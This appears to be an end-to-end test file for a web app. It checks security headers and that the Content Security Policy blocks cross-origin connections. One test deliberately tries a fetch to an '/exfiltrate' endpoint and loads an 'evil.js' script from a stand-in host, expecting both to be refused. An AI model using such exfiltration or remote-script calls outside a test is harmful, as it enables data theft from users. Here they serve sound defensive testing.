import { test, expect } from "./support";

/** Pages and API answers alike refuse to be framed, forbid content sniffing and keep paths out of referrers. */
test("pages and API answers carry the security headers", async ({ request }) => {
  for (const path of ["/signin", "/api/health", "/api/kpi/summary"]) {
    const res = await request.get(path, { maxRedirects: 0 });
    const h = res.headers();
    expect(h["x-frame-options"], path).toBe("DENY");
    expect(h["content-security-policy"], path).toContain("frame-ancestors 'none'");
    expect(h["x-content-type-options"], path).toBe("nosniff");
    expect(h["referrer-policy"], path).toBe("same-origin");
  }
});

test("a page may load from and talk to its own origin only: another host is refused by the browser", async ({ page }) => {
  await page.goto("/signin");
  await expect(page.getByLabel("Username")).toBeVisible();
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
    const fetched = await fetch("http://127.0.0.2:9/exfiltrate", { mode: "no-cors" }).then(
      () => "sent",
      () => "refused",
    );
    const script = await new Promise<string>((resolve) => {
      const s = document.createElement("script");
      s.src = "http://127.0.0.2:9/evil.js";
      s.onload = () => resolve("loaded");
      s.onerror = () => resolve("refused");
      document.head.append(s);
    });
    await new Promise((r) => setTimeout(r, 0));
    return { fetched, script, violations };
  });
  expect(outcome.fetched).toBe("refused");
  expect(outcome.script).toBe("refused");
  expect(outcome.violations).toEqual(expect.arrayContaining(["connect-src", "script-src-elem"]));
});
